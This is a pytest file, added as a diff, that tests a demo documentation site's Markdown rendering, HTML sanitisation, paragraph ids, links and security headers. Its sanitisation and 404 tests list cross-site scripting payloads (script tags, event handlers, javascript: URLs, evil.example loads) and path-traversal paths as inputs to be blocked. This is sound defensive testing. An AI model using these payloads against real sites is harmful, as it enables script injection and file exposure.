@@ -1,0 +1,373 @@
+"""The demo site: how pages are rendered, what may pass, and that every paragraph is found on it."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from urllib.parse import unquote, urlsplit
+
+import httpx
+import pytest
+
+from app.adapters.page_renderer import render_pages
+from app.api.demo import build_site
+from app.bootstrap import SAMPLE_BOOK, application, sample_pages
+from app.domain.document import Block, BlockKind, Book, Document, Site
+from tests.html_page import Page
+from tests.serving import offline_settings, serving
+
+BASE = "http://127.0.0.1:8000"
+
+
+def make_book(
+    pages: Mapping[str, str], blocks: Mapping[str, tuple[Block, ...]] | None = None
+) -> Book:
+    """Return a book of these files, each at `/docs/<name>`."""
+    documents = tuple(
+        Document(
+            file=file,
+            title=f"Title of {Path(file).stem}",
+            chapter="",
+            url=f"{BASE}/docs/{Path(file).stem}",
+            source=source,
+            blocks=(blocks or {}).get(file, ()),
+            position=position,
+        )
+        for position, (file, source) in enumerate(pages.items())
+    )
+    return Book("book", "The Book", Site.DOCUSAURUS, BASE, "en", "v", documents)
+
+
+def render(source: str, folder: Path, *, blocks: tuple[Block, ...] = ()) -> str:
+    book = make_book({"docs/page.md": source, "docs/other.md": "Other"}, {"docs/page.md": blocks})
+    return render_pages(book, folder)["docs/page.md"]
+
+
+# --- Docusaurus' Markdown -----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("---\ntitle: x\n---\n\nText", ["<h1>Title of page</h1>", "<p>Text</p>"]),
+        ("import Tabs from '@theme/Tabs';\n\nText", ["<p>Text</p>"]),
+        ("import 'owls' is a statement", ["<p>import 'owls' is"]),
+        ("# Head {#own-id}", ["<h1>Head</h1>"]),
+        (
+            ":::tip[Read *this*]\n\nBody\n\n:::\n\nAfter",
+            ['<aside class="admonition tip">', "Read *this*</p>\n<p>Body</p>\n</aside>\n<p>After"],
+        ),
+        (":::note\nBody\n:::", ['<p class="label">Note</p>\n<p>Body</p>']),
+        (
+            "::::info\n:::note\nInner\n:::\n::::\nAfter",
+            ["admonition info", "admonition note", "</aside>\n</aside>\n<p>After"],
+        ),
+        (":::warning\nNever closed", ["admonition warning", "<p>Never closed</p>\n</aside>"]),
+        (
+            '<Tabs>\n<TabItem value="py" label="Python">\nText\n</TabItem>\n</Tabs>',
+            ['<div class="tabs">', '<section class="tab"><p class="label">Python</p><p>Text</p>'],
+        ),
+        (
+            "<details>\n<summary>So *lution*</summary>\n\n- one\n\n</details>",
+            ["<details>", "<summary>", "So <em>lution</em>", "<li>one</li>", "</details>"],
+        ),
+        ("<Unknown prop={1}>\n\nKept\n\n</Unknown>", ["<p>Kept</p>"]),
+        ("A{/* hidden */}B", ["<p>AB</p>"]),
+        ("{/* hidden\n\nstill */}\n\nText", ["<p>Text</p>"]),
+        ("<!-- hidden -->\nText", ["<p>Text</p>"]),
+        (
+            "$a < b$ and $$c$$",
+            ['<span class="math">a &lt; b</span>', '<span class="math">c</span>'],
+        ),
+        ("$$\nx^2\n$$", ['<div class="math-block"><span class="math">x^2</span></div>']),
+        ("    not code", ["<p>not code</p>"]),
+        ("A[^n]\n\n[^n]: Note", ['<a href="#fn1"', '<li id="fn1" class="footnote-item"><p>Note']),
+        ("Term\n: Meaning", ["<dt>Term</dt>", "<dd>Meaning</dd>"]),
+        ("| a | b |\n|---|--:|\n| 1 | 2 |", ['<th class="align-right">b</th>', "<td>1</td>"]),
+        ("![alt](/img/x.svg)", ['<p class="figure"><img src="/img/x.svg" alt="alt"']),
+        ("*Figure 1: An owl.*", ['<p class="caption"><em>Figure 1']),
+        ("[other](./other.md#part)", ['<a href="/docs/other#part">']),
+        ("[other](other.md?x=1)", ['<a href="/docs/other?x=1">']),
+        ("[site](@site/docs/other.md)", ['<a href="/docs/other">']),
+        ("[gone](gone.md)", ['<a href="gone.md">']),
+        ("[far](https://example.org/other.md)", ['rel="noopener noreferrer"']),
+        (
+            '```python title="a.py" {1,3-4}\na\n# highlight-next-line\nb\nc\nd\n```',
+            [
+                "<figcaption>a.py</figcaption>",
+                'class="language-python"',
+                '<span class="marked-line">a</span>\n<span class="marked-line">b</span>\n',
+                '<span class="marked-line">c</span>\n<span class="marked-line">d</span>\n</code>',
+            ],
+        ),
+        (
+            "```js\n// highlight-start\na\nb\n// highlight-end\nc < d\n```",
+            ['<span class="marked-line">b</span>\nc &lt; d\n</code>'],
+        ),
+        ("Press <kbd>Enter</kbd>, H<sub>2</sub>O<br/>end", ["<kbd>Enter</kbd>", "<sub>2", "<br>"]),
+    ],
+)
+def test_docusaurus_markdown_is_rendered(source: str, expected: list[str], tmp_path: Path) -> None:
+    html = render(source, tmp_path)
+    Page(html)
+    for fragment in expected:
+        assert fragment in html
+    assert "hidden" not in html
+    assert "highlight-" not in html
+
+
+def test_a_partial_is_rendered_where_it_is_used(tmp_path: Path) -> None:
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs" / "_part.mdx").write_text("Shared [text](./other.md).", encoding="utf-8")
+    source = "import Part from './_part.mdx';\n\nBefore\n\n<Part />\n\nAfter"
+    html = render(source, tmp_path)
+    assert '<p>Before</p>\n<p>Shared <a href="/docs/other">text</a>.</p>\n<p>After</p>' in html
+
+
+@pytest.mark.parametrize(
+    "path", ["../../secret.md", "/etc/secret.md", "./missing.md", "./_loop.md"]
+)
+def test_a_partial_outside_the_book_or_without_end_is_left_out(path: str, tmp_path: Path) -> None:
+    (tmp_path / "secret.md").write_text("secret", encoding="utf-8")
+    folder = tmp_path / "book"
+    (folder / "docs").mkdir(parents=True)
+    loop = "import Loop from './_loop.md';\n\n<Loop />"
+    (folder / "docs" / "_loop.md").write_text(loop, encoding="utf-8")
+    html = render(f"import Part from '{path}';\n\nText\n\n<Part />", folder)
+    assert "secret" not in html
+    assert "<p>Text</p>" in html
+
+
+# --- what may pass ------------------------------------------------------------------------------
+
+_SAFE_ATTRIBUTES = frozenset({
+    "alt", "aria-label", "class", "data-paragraph-id", "height", "href", "id", "loading", "open",
+    "rel", "src", "tabindex", "title", "width",
+})  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "<script>alert(1)</script>",
+        "<script>\nalert(1)\n</script>\n\nText",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "Text <script>alert(1)</script> text",
+        "<img src=x onerror=alert(1)>",
+        '<img src="x" onerror="alert(1)">',
+        '<img src="//evil.example/track.gif">',
+        "![track](https://evil.example/track.gif)",
+        '<details open ontoggle="alert(1)">\n<summary>x</summary>\n</details>',
+        '<div style="position:fixed">\n\nText\n\n</div>',
+        '<kbd onclick="alert(1)" class="tbr-panel">Enter</kbd>',
+        '<iframe src="https://evil.example"></iframe>',
+        '<svg onload="alert(1)"></svg>',
+        "<style>\nbody { display: none }\n</style>",
+        '<a href="javascript:alert(1)">x</a>',
+        "[x](javascript:alert(1))",
+        "[x](data:text/html,<script>alert(1)</script>)",
+        '<form action="https://evil.example"><input name="q"></form>',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+        "</article></main></body>",
+        "</details></details>\n\nText",
+        "<details>\n\nnever closed",
+        "*a <sub>b* c",
+        "<sub>**a</sub> b**",
+        '```"><script>alert(1)</script>\ncode\n```',
+        '```js title="<script>alert(1)</script>"\ncode\n```',
+        ":::note[<script>alert(1)</script>]\nText\n:::",
+        '<TabItem label="<script>alert(1)</script>">\n\nText\n\n</TabItem>',
+        "$<script>alert(1)</script>$",
+        '# Title {#x"onclick=alert(1)}',
+        '<span id="x\' onclick=alert(1)">x</span>',
+    ],
+)
+def test_a_hostile_page_carries_no_script_handler_or_foreign_load(
+    source: str, tmp_path: Path
+) -> None:
+    page = Page(render(source, tmp_path))
+    for element in page.elements:
+        assert element.tag not in {"script", "style", "iframe", "svg", "form", "input", "meta"}
+        assert set(element.attributes) <= _SAFE_ATTRIBUTES
+        assert "evil" not in element.attributes.get("src", "")
+        assert not element.attributes.get("href", "").startswith(("javascript:", "data:"))
+        assert "tbr-" not in element.attributes.get("class", "")
+
+
+# --- which paragraph an element is --------------------------------------------------------------
+
+
+def _block(source: str, text: str, kind: BlockKind, paragraph_id: str, anchor: str = "") -> Block:
+    start = source.index(text)
+    return Block(kind, text, "docs/page.md", start, start + len(text), (), anchor, "", paragraph_id)
+
+
+def test_the_outermost_element_of_a_block_carries_its_id(tmp_path: Path) -> None:
+    source = "# Owls\r\n\r\nFirst.\r\n\r\n- a\r\n  - b\r\n\r\n- c\r\n\r\n:::tip\n\nInner.\n\n:::\n"
+    blocks = (
+        _block(source, "# Owls", BlockKind.HEADING, "p-h", "owls"),
+        _block(source, "First.", BlockKind.PARAGRAPH, "p-1"),
+        _block(source, "- a\r\n  - b\r\n\r\n- c", BlockKind.LIST, "p-2"),
+        _block(source, ":::tip\n\nInner.\n\n:::", BlockKind.ADMONITION, "p-3"),
+    )
+    page = Page(render(source, tmp_path, blocks=blocks))
+    tagged = [
+        (element.tag, element.attributes["data-paragraph-id"], element.attributes["id"])
+        for element in page.elements
+        if "data-paragraph-id" in element.attributes
+    ]
+    assert tagged == [
+        ("h1", "p-h", "owls"),
+        ("p", "p-1", "p-1"),
+        ("ul", "p-2", "p-2"),
+        ("aside", "p-3", "p-3"),
+    ]
+
+
+def test_a_block_of_several_elements_marks_each_and_gives_its_id_once(tmp_path: Path) -> None:
+    source = "One.\n\nTwo.\n\nThree.\n"
+    blocks = (
+        _block(source, "One.\n\nTwo.", BlockKind.EXERCISE, "p-1"),
+        _block(source, "Three.", BlockKind.PARAGRAPH, "p-2"),
+    )
+    html = render(source, tmp_path, blocks=blocks)
+    assert html.count('data-paragraph-id="p-1"') == 2
+    assert Page(html).ids == ["p-1", "p-2"]
+
+
+# --- the sample book ----------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Sample:
+    address: str
+    book: Book
+    pages: Mapping[str, Page]
+    """By path, the whole page as it is served."""
+
+
+@pytest.fixture(scope="module")
+def sample(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sample]:
+    """Serve the sample book with nothing indexed: pages need no index."""
+    settings = offline_settings(tmp_path_factory.mktemp("home"))
+    read: list[Book] = []
+
+    async def remember_book() -> None:
+        async with application(settings) as rag:
+            book, _ = await sample_pages(rag)
+            read.append(book)
+
+    asyncio.run(remember_book())
+    paths = [urlsplit(document.url).path for document in read[0].documents]
+    with serving(settings) as address, httpx.Client(base_url=address) as client:
+        pages = {path: Page(client.get(path).raise_for_status().text) for path in paths}
+        yield Sample(address, read[0], pages)
+
+
+def _page_of(sample: Sample, document: Document) -> Page:
+    return sample.pages[urlsplit(document.url).path]
+
+
+def _letters(text: str) -> str:
+    """Return letters and digits, without the numbers of list items, which a browser draws."""
+    text = re.sub(r"^\s*\d+\.\s", "", text, flags=re.MULTILINE)
+    return "".join(char for char in text.casefold() if char.isalnum())
+
+
+def test_every_block_of_the_book_is_on_its_page_with_its_text(sample: Sample) -> None:
+    missing = [
+        f"{block.file}: {block.kind} {block.paragraph_id} {block.text[:60]!r}"
+        for document in sample.book.documents
+        for block in document.blocks
+        if _letters(block.text) not in _letters(_page_of(sample, document).text[block.paragraph_id])
+    ]
+    assert missing == []
+
+
+def test_headings_have_the_anchors_of_the_site_and_ids_are_unique(sample: Sample) -> None:
+    for document in sample.book.documents:
+        ids = _page_of(sample, document).ids
+        anchors = [b.anchor for b in document.blocks if b.kind is BlockKind.HEADING and b.anchor]
+        assert [anchor for anchor in anchors if anchor not in ids] == []
+        assert len(ids) == len(set(ids)), document.file
+
+
+def test_every_link_and_image_of_the_site_leads_somewhere(sample: Sample) -> None:
+    broken = []
+    with httpx.Client(base_url=sample.address) as client:
+        for path, page in sample.pages.items():
+            for link in page.all("a"):
+                target = urlsplit(link.attributes["href"])
+                if target.netloc or target.path.startswith("/v1/"):
+                    continue
+                goal = sample.pages.get(target.path or path)
+                if target.path == "/":
+                    continue
+                if goal is None or (target.fragment and unquote(target.fragment) not in goal.ids):
+                    broken.append((path, link.attributes["href"]))
+            broken += [
+                (path, image.attributes["src"])
+                for image in page.all("img")
+                if client.get(image.attributes["src"]).status_code != 200
+            ]
+    assert broken == []
+
+
+def test_the_site_begins_with_the_first_page_and_its_contents_follow_the_reading_order(
+    sample: Sample,
+) -> None:
+    first, second = sample.book.documents[:2]
+    assert httpx.head(sample.address).status_code == 307
+    start = httpx.get(sample.address)
+    assert start.status_code == 307
+    assert start.headers["location"] == urlsplit(first.url).path
+    page = _page_of(sample, first)
+    order = [urlsplit(document.url).path for document in sample.book.documents]
+    links = [link.attributes["href"] for link in page.all("a")]
+    positions = [links.index(path) for path in order]
+    assert positions == sorted(positions)
+    current = [link for link in page.all("a") if "aria-current" in link.attributes]
+    assert [link.attributes["href"] for link in current] == [order[0]]
+    after = next(link for link in page.all("a") if link.attributes.get("rel") == "next")
+    assert after.attributes["href"] == urlsplit(second.url).path
+
+
+def test_pages_run_no_inline_script_and_load_nothing_from_elsewhere(sample: Sample) -> None:
+    for page in sample.pages.values():
+        for element in page.elements:
+            assert "style" not in element.attributes
+            assert not any(name.startswith("on") for name in element.attributes)
+            assert element.tag != "style"
+            if element.tag in {"script", "img", "link"}:
+                source = element.attributes.get("src") or element.attributes["href"]
+                assert source.startswith(("/", "data:,"))
+    headers = httpx.get(sample.address, follow_redirects=True).headers
+    assert "script-src 'self';" in headers["content-security-policy"]
+    assert "frame-ancestors 'none'" in headers["content-security-policy"]
+
+
+@pytest.mark.parametrize("path", ["/docs/no-such-page", "/docs/../../pyproject.toml", "/docs/%00"])
+def test_an_unknown_page_is_a_page_that_says_so(sample: Sample, path: str) -> None:
+    response = httpx.get(sample.address + path)
+    assert response.status_code == 404
+    if path.startswith("/docs/no"):
+        assert "No such page" in response.text
+
+
+@pytest.mark.parametrize("file", ["/widget/widget.js", "/widget/widget.css", "/widget/site.css"])
+def test_the_widget_is_served_from_the_package(sample: Sample, file: str) -> None:
+    assert httpx.get(sample.address + file).status_code == 200
+
+
+def test_pages_keep_their_paths_under_another_base_url() -> None:
+    source = SAMPLE_BOOK / "docs"
+    assert source.is_dir()
+    book = make_book({"docs/a.md": "[b](./b.md)", "docs/b.md": "B"})
+    site = build_site(book, render_pages(book, SAMPLE_BOOK))
+    page = site.page("/docs/a/")
+    assert page is not None
+    assert '<a href="/docs/b">b</a>' in page
+    assert site.home == "/docs/a"
